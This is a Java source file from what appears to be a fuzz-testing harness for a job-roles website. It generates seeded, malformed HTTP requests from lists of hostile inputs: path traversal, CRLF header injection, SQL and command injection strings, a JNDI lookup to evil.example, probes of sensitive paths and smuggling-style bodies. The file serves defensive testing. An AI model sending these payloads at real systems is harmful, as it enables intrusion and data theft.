package io.rolebook.hostile;

import java.util.List;
import java.util.Random;

/** Requests that no well-behaved client sends; equal seeds give equal requests. */
final class Requests {

    /** Stands in every request; wherever it comes back with its brackets, markup was reflected. */
    static final String MARK = "zq<i/x=1>\"'zr";

    private static final List<String> PLACES = List.of(
            "/",
            "/roles",
            "/roles/",
            "/roles/nurse",
            "/roles/nurse/",
            "/roles/nurse/salary",
            "/roles/nurse/to/",
            "/roles/nurse/print",
            "/families/",
            "/families/care",
            "/skills",
            "/skills/",
            "/skills/triage",
            "/salaries",
            "/salaries.csv",
            "/compare",
            "/find",
            "/plan",
            "/faqs",
            "/duties",
            "/search",
            "/search/suggest",
            "/sources/",
            "/sources/sample-guide",
            "/about",
            "/schema/",
            "/schema/role.json",
            "/static/bundle/",
            "/icon.svg",
            "/manifest.webmanifest",
            "/speculation-rules.json",
            "/robots.txt",
            "/editor",
            "/editor/events",
            "/q/",
            "/q/dev",
            "/q/metrics",
            "/h2-console",
            "/actuator",
            "/.git/",
            "/.env",
            "/WEB-INF/",
            "/META-INF/",
            "*",
            "");
    private static final List<String> PIECES = List.of(
            "..",
            "../",
            "..;/",
            "%2e%2e/",
            "%2e%2e%2f",
            "..%2f",
            "..%5c",
            "..\\",
            "%252e%252e%252f",
            "..%c0%af",
            "....//",
            "etc/passwd",
            "%00",
            "%0d%0aX-Evil:%201",
            "%0aX-Evil:1",
            "\u0000",
            "%",
            "%z",
            "%2",
            "%ff%fe",
            "%c3%28",
            "%ed%a0%80",
            "%f0%9f%91%a9",
            "%e2%80%ae",
            "%u0041",
            "é",
            "\u00ff",
            "//",
            "/./",
            "/.",
            ";",
            ";a=b",
            ";jsessionid=1",
            "+",
            "%20",
            "%2F",
            "\\",
            "|",
            "{",
            "}",
            "{7*7}",
            "${7*7}",
            "{inject:site.name}",
            "<",
            ">",
            "\"",
            "'",
            "`",
            "^",
            "~",
            "_",
            "-",
            "--",
            ".",
            ".html",
            ".json",
            ".md",
            "#",
            "?",
            "&",
            "=",
            "A",
            "NURSE",
            "nurse",
            "nurze",
            "a".repeat(300),
            "a-a-",
            "1'%20or%20'1'='1",
            "%27%3b",
            "$(id)",
            "`id`",
            "%60",
            "application.properties",
            "pom.xml",
            "content/",
            "roles",
            "javascript:",
            "data:",
            "http://evil.example/",
            "//evil.example/",
            "\\\\evil.example/",
            "@evil.example",
            "%5c%5cevil.example",
            "//evil.example/%2e%2e");
    private static final List<String> NAMES = List.of(
            "q",
            "role",
            "skill",
            "sort",
            "pay",
            "level",
            "by",
            "page",
            "family",
            "growth",
            "environment",
            "years",
            "education",
            "place",
            "currency",
            "from",
            "to",
            "",
            "[]",
            "q[]",
            "%71",
            "__proto__",
            "a.b",
            "q%00");
    private static final List<String> VALUES = List.of(
            "",
            "1",
            "-1",
            "0",
            "99999999999999999999",
            "2147483648",
            "-2147483649",
            "NaN",
            "1e9",
            "0x1",
            "1.5",
            "70k",
            "€70k",
            "-median",
            "--median",
            "nurse",
            "midwife",
            "surgeon",
            "triage",
            "care",
            "true",
            "null",
            "undefined",
            "*:*",
            "title:nurse",
            "AND",
            "%22",
            "%22nurse",
            "(((",
            "nurse~9",
            "%28nurse",
            "nurse%20AND%20(",
            "%EF%BF%BF",
            "%F0%9F%91%A9",
            "%0d%0aX-Evil:%201",
            "%00",
            "%zz",
            "%",
            "'; drop table roles; --",
            "a".repeat(2000),
            "+".repeat(500));
    private static final List<String> METHODS =
            List.of("HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "PROPFIND", "FOO", "get", "CONNECT");
    private static final List<String> HEADERS = List.of(
            "Accept",
            "Accept-Encoding",
            "Accept-Language",
            "Accept-Charset",
            "Content-Type",
            "Range",
            "If-Range",
            "If-None-Match",
            "If-Match",
            "If-Modified-Since",
            "If-Unmodified-Since",
            "Expect",
            "Cookie",
            "Origin",
            "Referer",
            "User-Agent",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Proto",
            "X-Forwarded-Prefix",
            "Forwarded",
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-HTTP-Method-Override",
            "Authorization",
            "Upgrade",
            "TE",
            "Via",
            "Cache-Control",
            "Access-Control-Request-Method",
            "Last-Event-ID",
            "Traceparent",
            "Purpose",
            "X");
    private static final List<String> HEADER_VALUES = List.of(
            "",
            "*",
            "*/*",
            "text/html",
            "application/json",
            "text/html;q=2",
            "a/b;q=x",
            "/",
            ";;;",
            ",,,",
            "gzip",
            "br;q=0",
            "identity;q=0, *;q=0",
            "bytes=0-0",
            "bytes=9-1",
            "bytes=0-1,3-4,6-",
            "bytes=-99999999999999999999",
            "\"x\"",
            "W/\"x\"",
            "Sun, 06 Nov 1994 08:49:37 GMT",
            "Sun, 99 Foo 9999",
            "-1",
            "https",
            "evil.example",
            "evil.example:99999",
            "127.0.0.1",
            "for=\"[::1]:1\";proto=https;host=evil.example",
            "a=b; c=\"d",
            "é\u00ff",
            "${jndi:ldap://evil.example/a}",
            "x".repeat(3000),
            "DELETE",
            "/etc/passwd",
            "00-0-0-0");
    private static final List<String> HOSTS = List.of(
            "localhost",
            "localhost",
            "localhost",
            "evil.example",
            "evil.example:80",
            "[::1]",
            "[",
            "a b",
            "",
            "a@b",
            "a/b",
            "localhost:99999",
            "localhost:x",
            "é",
            "x".repeat(500),
            MARK);

    private final Random dice;

    Requests(long seed) {
        dice = new Random(seed);
    }

    String next() {
        StringBuilder request = new StringBuilder()
                .append(once(6) ? any(METHODS) : "GET")
                .append(' ')
                .append(target())
                .append(once(200) ? " HTTP/1.0" : " HTTP/1.1")
                .append("\r\nHost: ")
                .append(once(4) ? any(HOSTS) : "localhost")
                .append("\r\n");
        for (int more = dice.nextInt(4); more > 0; more--) {
            request.append(any(HEADERS))
                    .append(": ")
                    .append(once(4) ? MARK : any(HEADER_VALUES))
                    .append("\r\n");
        }
        return request.append(once(30) ? body() : "\r\n").toString();
    }

    private String target() {
        StringBuilder target = new StringBuilder(any(PLACES));
        for (int more = dice.nextInt(5); more > 0; more--) {
            target.append(once(5) ? mark() : any(PIECES));
            target.append(once(3) ? "/" : "");
        }
        if (once(2)) {
            target.append('?');
            for (int more = dice.nextInt(6); more > 0; more--) {
                target.append(any(NAMES))
                        .append('=')
                        .append(once(3) ? mark() : any(VALUES))
                        .append('&');
            }
        }
        // A blank would end the address, a line the header; both are for whoever sends them on purpose
        return once(100) ? target.toString() : target.toString().replace(" ", "%20");
    }

    /** As it is, encoded, or encoded twice. */
    private String mark() {
        String once =
                MARK.replace("%", "%25").replace("<", "%3C").replace(">", "%3E").replace("\"", "%22");
        return switch (dice.nextInt(4)) {
            case 0 -> MARK;
            case 1 -> once.replace("%", "%25");
            default -> once;
        };
    }

    private String body() {
        return switch (dice.nextInt(5)) {
            case 0 -> "Content-Length: 5\r\n\r\nhello";
            case 1 -> "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n";
            case 2 -> "Content-Length: -1\r\n\r\n";
            case 3 -> "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 7\r\n\r\nq=%zz&r";
            default -> "Transfer-Encoding: chunked\r\n\r\nzz\r\n";
        };
    }

    private boolean once(int of) {
        return dice.nextInt(of) == 0;
    }

    private String any(List<String> all) {
        return all.get(dice.nextInt(all.size()));
    }
}
